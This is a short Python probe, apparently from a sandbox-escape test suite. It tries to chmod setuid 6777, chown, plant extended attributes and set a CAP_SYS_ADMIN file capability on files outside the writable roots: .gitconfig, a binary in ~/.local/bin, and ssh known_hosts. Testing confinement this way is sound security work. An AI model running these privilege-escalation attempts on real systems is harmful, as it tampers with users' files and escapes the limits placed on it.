# technique: change mode, owner and xattrs of read-only files outside the writable roots: fchmod/fchown/fsetxattr on an O_RDONLY descriptor, setxattr by path (security.capability as root)
# fast: yes
import os, struct
env = dict(l.strip().split("=", 1) for l in open(".adv/world.env"))
targets = [env["HOME"] + "/.gitconfig", env["HOME"] + "/.local/bin/tool", env["HOME"] + "/.ssh/known_hosts"]
caps = struct.pack("<IIIII", 0x02000001, 1 << 21, 0, 0, 0)  # CAP_SYS_ADMIN, effective
def attempt(label, f):
    try:
        f()
        print(label, "DONE")
    except Exception as e:
        print(label, e)
for p in targets:
    try:
        fd = os.open(p, os.O_RDONLY)
    except Exception as e:
        print(p, e)
        continue
    attempt(p + " fchmod", lambda: os.fchmod(fd, 0o6777))
    attempt(p + " fchown", lambda: os.fchown(fd, 65534 if os.geteuid() == 0 else -1, os.getgid()))
    attempt(p + " fsetxattr", lambda: os.setxattr(fd, "user.planted", b"1"))
    attempt(p + " setxattr path", lambda: os.setxattr(p, "user.planted2", b"1"))
    attempt(p + " security.capability", lambda: os.setxattr(p, "security.capability", caps))
